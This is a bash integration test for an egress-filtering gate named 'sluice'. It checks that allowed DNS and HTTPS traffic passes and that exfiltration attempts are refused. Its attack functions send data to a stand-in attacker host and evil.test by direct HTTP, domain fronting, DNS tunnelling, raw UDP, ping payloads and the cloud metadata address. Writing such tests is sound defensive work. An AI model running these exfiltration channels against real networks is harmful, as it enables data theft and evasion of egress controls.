#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2209,SC2329
# A cut through all themes that is small enough for an emulated machine (tests/vm/run): native queue, pure cgroup v2, Linux 6.1.
. "$(dirname "$0")/lib.sh"
bed
capture s s0
export CA

ask() {
    client dig +tries=1 +timeout=5 "$@" > "$T/dig" 2>&1 || { cat "$T/dig" && return 1; }
    sed -n 's/.*status: \([A-Z]*\),.*/\1/p' "$T/dig" | head -1
}
queue_kind() {
    h "$GATE_HOST" nft list table inet sluice > "$T/table" 2>&1
    if [ "${SLUICE_QUEUE:-}" = native ]; then grep -E 'queue (flags|num|to)' "$T/table"; else grep -Ei 'queue' "$T/table"; fi
}
names() {
    local server
    for server in 198.18.2.53 2001:db8:2::53; do
        [ "$(ask @$server both.test)" = NOERROR ]
        grep -q 198.18.2.80 "$T/dig"
        [ "$(ask @$server other.test)" = NXDOMAIN ]
        grep -q 'EDE: 15' "$T/dig"
        [ "$(ask @$server +tcp both.test AAAA)" = NOERROR ]
        [ "$(ask @$server +tcp other.test)" = NXDOMAIN ]
    done
    if grep 'query.*other.test' "$T/dns.log"; then die "the resolver was asked"; fi
}
fetches() {
    fetch -4 https://allowed.test/hello | grep 'hello from allowed.test'
    fetch -6 https://allowed.test/hello | grep 'hello from allowed.test'
    fetch http://allowed.test/hello | grep 'hello from allowed.test'
    [ "$(fetch https://allowed.test/medium | sha256sum)" = "$(sha256sum < "$T/www/medium")" ]
}
shared_address() {
    local n
    n=$(nonce)
    refused not_in_allowlist "$n.other.test" client timeout 10 openssl s_client -brief -connect 198.18.2.80:443 -servername "$n.other.test"
    expect_not_arrived "$n" s
}
other_host() {
    local n
    n=$(nonce)
    refused not_in_allowlist other.test client curl -sS --max-time 8 -H 'Host: other.test' "http://198.18.2.80/$n"
    expect_not_arrived "$n" s
}
direct() { client curl -s --max-time 4 "http://198.18.3.66/$1"; }
direct_6() { client curl -s --max-time 4 "http://[2001:db8:3::66]/$1"; }
fronting() { client timeout 5 openssl s_client -brief -connect 198.18.3.66:443 -servername allowed.test -alpn "$1" < /dev/null; }
foreign() { client dig +tries=1 +timeout=3 @198.18.3.66 "$1.evil.test"; }
tunnel() { client dig +tries=1 +timeout=3 "t-$1.evil.test"; }
datagram() { client bash -c "echo $1 > /dev/udp/198.18.3.66/9999"; }
echo_request() { client ping -c 1 -W 2 -p "$(printf %s "$1" | head -c 16 | od -An -tx1 | tr -d ' \n')" 198.18.3.66; }
metadata() { client curl -s --max-time 4 "http://169.254.169.254/$1"; }
ATTACKS=(direct direct_6 fronting foreign tunnel datagram echo_request metadata)
declare -A REASON=([foreign]=foreign_resolver [tunnel]='not_in_allowlist|tunnel_suspected' [datagram]='udp_not_allowed|not_resolved' [echo_request]=protocol [metadata]=metadata_address)
declare -A WHERE=([direct]=198.18.3.66 [direct_6]=2001:db8:3::66 [fronting]=198.18.3.66 [datagram]=198.18.3.66 [echo_request]=198.18.3.66 [metadata]=169.254.169.254)
flush() {
    h "$GATE_HOST" nft flush ruleset || true
    h "$GATE_HOST" conntrack -F > /dev/null 2>&1 || true
    attack_refused not_resolved 198.18.3.66 direct
    fetches
}
killed() {
    local role
    for role in inspect keeper relay standby launcher; do
        # shellcheck disable=SC2046
        kill -KILL $(role_pid $role)
        attack_refused not_resolved 198.18.3.66 direct || attack_refused not_resolved 2001:db8:3::66 direct_6
        eventually 4 fetch --max-time 4 -o /dev/null https://allowed.test/hello
    done
}
# The cgroup is another one at the same path: rules anew, whose counters stay.
made_again() {
    h c sh -c 'find "$0" -depth -type d -exec rmdir {} \; && mkdir "$0" && sleep 3' "$CGROUPS$CGROUP"
    attack_refused not_resolved 198.18.3.66 direct
    fetches
}
# A segment with a wrong checksum for a listener in the scope.
told_dropped() {
    client timeout 20 "$PYTHON" -c 'import socket, time; s = socket.socket(); s.bind(("", 40000)); s.listen(); print("ready", flush=True); time.sleep(10)' > "$T/listener" &
    eventually 10 grep -q ready "$T/listener"
    h a "$PYTHON" -c 'import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)
s.sendto(struct.pack(">HHIIBBHHH", 80, 40000, 1, 1, 0x50, 0x19, 100, 1, 0), ("198.18.1.2", 0))'
    eventually 3 event_seen 0 unproven test
    [ "$(h c "$SLUICE" status --json | jq .counts.unproven)" = 1 ]
    wait $!
}
run() {
    h c env SUDO_UID=65534 SUDO_GID=65534 "$SLUICE" run --allow allowed.test -- sh -c "curl -sS --cacert $CA https://allowed.test/hello; getent hosts denied.test; exit 7" > "$T/out" 2> "$T/err" || [ $? = 7 ]
    grep 'hello from allowed.test' "$T/out"
    grep -E 'deny +dns +denied\.test' "$T/err"
}
nothing_left() { ! h c sh -c 'nft list tables | grep -q sluice' && ! h g sh -c 'nft list tables | grep -q sluice' && ! any_process c && ! any_process g; }
any_process() { pgrep --ns "${HOST[$1]}" --nslist net '^sluice' > /dev/null; }

for name in "${ATTACKS[@]}"; do check "without the gate $name reaches the attacker" attack_reaches "$name"; done
for form in output forward; do
    FORM=$form
    policy "$T/policy.yaml" "${ALLOW[@]}"
    gate_up $form "$T/policy.yaml"
    check "the queue is as it should be" queue_kind
    check "DNS over UDP and TCP, v4 and v6, allowed and denied" names
    check "TLS and HTTP pass" fetches
    check "a name that is not allowed, at an allowed address" shared_address
    check "a Host that is not allowed, at an allowed address" other_host
    for name in "${ATTACKS[@]}"; do check "$name does not reach the attacker" attack_refused "${REASON[$name]:-not_resolved}" "${WHERE[$name]:-}" "$name"; done
    [ $form != output ] || check "a cgroup that is made again is held" made_again
    [ $form != output ] || check "what the rules drop themselves is told" told_dropped
    check "nft flush ruleset and conntrack -F open nothing" flush
    check "each role killed" killed
    gate_down
done
check "sluice run" run
check "nothing is left" eventually 5 nothing_left
finish
